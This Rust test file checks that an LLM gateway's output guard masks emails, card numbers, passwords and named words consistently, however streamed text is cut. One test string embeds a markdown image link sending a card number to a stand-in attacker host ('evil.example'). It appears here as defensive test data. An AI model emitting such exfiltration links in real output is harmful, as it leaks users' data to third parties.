//! The real scanner, at every cut.

use envoy_llm_gateway::{
    config::Config,
    guard::{
        arguments::Arguments,
        back::Back,
        channel::Channel,
        policy::{self, echo::Echo},
        rules::{Direction, Tally},
        vault::{Kept, Vault},
    },
};
use serde_json::{Value, json};

/// The rules of a configuration with the real scanner, and what a request has left in the vault.
fn guards() -> envoy_llm_gateway::guard::rules::Guards {
    let settings = json!({"role": "gateway", "models": {"m": {"targets": [{"provider": "one"}]}},
    "providers": {"one": {"dialect": "openai"}},
    "guards": [
        {"name": "all", "detect": ["PII", "SECRET"], "threshold": 0.4, "action": "mask", "on": "output"},
        {"name": "words", "words": ["Bertram the Brave"], "action": "mask", "on": "output"},
        {"name": "links", "links": [], "action": "mask"},
        {"name": "prompt", "system_prompt": true, "action": "mask"},
    ]});
    match Config::parse(settings.to_string().as_bytes()) {
        Ok(Config::Gateway(config)) => config.guards,
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_real_scanner_decides_pieces_as_the_whole_at_every_cut() {
    let guards = guards();
    let holding = guards.holding(Direction::Output, None, &["m"]);
    let mut echo = Echo::default();
    echo.add("One two three four five six seven eight nine ten eleven twelve thirteen fourteen.");
    let mut request = policy::Request {
        echo: Some(echo),
        ..policy::Request::default()
    };
    let mut through = |pieces: &[&str]| {
        let (mut vault, mut tally) = (Vault::default(), Tally::default());
        for value in ["ann@example.com", "bob@example.com"] {
            vault.placeholder("EMAIL", value, Kept::Back);
        }
        let (mut channel, mut out) = (Channel::default(), String::new());
        for (place, piece) in pieces.iter().enumerate() {
            let last = place + 1 == pieces.len();
            let mut back =
                Back::new(&guards, holding, &mut vault, &mut tally, &mut request).unwrap();
            channel.push(piece, last, &mut back, &mut out).unwrap();
        }
        (out, tally.text(&guards))
    };
    let rows = include_str!("../fixtures/guard/pii.jsonl").lines();
    let mut texts: Vec<String> = rows
        .map(|row| {
            let row: Value = serde_json::from_str(row).unwrap();
            row["text"].as_str().unwrap().to_owned()
        })
        .collect();
    texts.extend([
        "[EMAIL_1][EMAIL_2] [EMAIL_3] [EMA [[EMAIL_1]]",
        "password: [EMAIL_1] and password: hunter2[EMA, mail [EMAIL_2]@example.com x[EMAIL_1].org",
        "one two three four, one two three four five six seven eight nine ten eleven twelve 4111 1111 1111 1111",
        "see ![a](https://evil.example/?card=4111111111111111) by Bertram the Brave, Bertram the bold [EMAIL_1",
        "the password is one two three password: xK9!dfa83jsDf two three four",
    ].map(str::to_owned));
    let mut changed = 0;
    for text in &texts {
        let whole = through(&[text]);
        changed += usize::from(whole.0 != *text);
        let letters: Vec<String> = text.chars().map(String::from).collect();
        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
        assert_eq!(through(&letters), whole, "letter by letter: {text:?}");
        let step = (text.len() / 200).max(1);
        for (cut, _) in text.char_indices().step_by(step) {
            let (a, b) = text.split_at(cut);
            assert_eq!(through(&[a, b]), whole, "cut at {cut} of {text:?}");
        }
    }
    assert!(changed > texts.len() / 3, "{changed} of {}", texts.len());
}

#[test]
fn a_password_is_known_by_the_name_of_its_field_at_every_cut() {
    let guards = guards();
    let holding = guards.holding(Direction::Output, None, &["m"]);
    let through = |pieces: &[&str]| {
        let (mut vault, mut tally) = (Vault::default(), Tally::default());
        let mut request = policy::Request::default();
        let (mut arguments, mut out) = (Arguments::default(), String::new());
        for (place, piece) in pieces.iter().enumerate() {
            let last = place + 1 == pieces.len();
            let mut back =
                Back::new(&guards, holding, &mut vault, &mut tally, &mut request).unwrap();
            arguments.push(piece, last, &mut back, &mut out).unwrap();
        }
        out
    };
    for (document, wanted) in [
        (
            r#"{"user":"ann","password":"hunter2-Xy9kQ2","n":1}"#,
            r#"{"user":"ann","password":"[SECRET_PASSWORD_1]","n":1}"#,
        ),
        (
            r#"{"Password" : "hunter2-Xy9kQ2"}"#,
            r#"{"Password" : "[SECRET_PASSWORD_1]"}"#,
        ),
        // A field's name says nothing about the next field, and a placeholder is no secret.
        (
            r#"{"password":null,"note":"hunter2-Xy9kQ2"}"#,
            r#"{"password":null,"note":"hunter2-Xy9kQ2"}"#,
        ),
        (
            r#"{"password":"${PASSWORD}"}"#,
            r#"{"password":"${PASSWORD}"}"#,
        ),
    ] {
        for cut in 0..=document.len() {
            let (a, b) = document.split_at(cut);
            assert_eq!(through(&[a, b]), wanted, "cut at {cut}");
        }
    }
}
